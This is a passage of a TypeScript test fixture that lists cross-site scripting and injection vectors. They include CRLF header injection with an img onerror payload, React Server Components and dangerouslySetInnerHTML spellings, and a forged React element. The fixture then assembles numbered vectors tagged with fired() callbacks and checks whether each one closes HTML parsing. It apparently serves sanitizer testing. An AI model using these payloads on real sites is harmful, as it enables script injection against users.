  '\r\nSet-Cookie: FIRE=1\r\n\r\n<img src=x onerror=FIRE>',
  '$RC("x","FIRE")<!--$--><!--/$--><!--$?--><template id="B:0"></template>',
  '["$","script",null,{"dangerouslySetInnerHTML":{"__html":"FIRE"}}]',
  '$L1 $@1 $F1 $undefined $NaN $D2020-01-01 $n1 $S x $Q1',
  '{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"FIRE"}}',
  '<meta name="showroom-status" content="500"/><meta name="showroom-policy" content="[]"/>',
]

const parser = unified().use(rehypeParse, { fragment: true }).freeze()

/** Whether HTML after the text is still parsed at the top level. */
function isClosed(text: string): boolean {
  const last = parser.parse(`<div>${text}</div><hr id=probe>`).children.at(-1)
  return last?.type === 'element' && last.properties.id === 'probe'
}

const KINDS: readonly (readonly [Kind, readonly Draft[]])[] = [
  ['markup', [...HANDLERS, ...SPELLED_HANDLERS, ...ADDRESSED, ...DOCUMENTS, ...STYLES, ...MUTATIONS, ...CLOBBERING]],
  ['script', SCRIPTS],
  ['address', SPELLINGS],
  ['text', TEXTS],
]

/** All vectors. */
export const VECTORS: readonly Vector[] = KINDS.flatMap(([kind, drafts]) =>
  drafts.map((draft) => ({ kind, draft })),
).map(({ kind, draft }, number) => {
  const text = write(draft, `fired(${number})`)
  return { number, kind, text, isClosed: isClosed(text) }
})
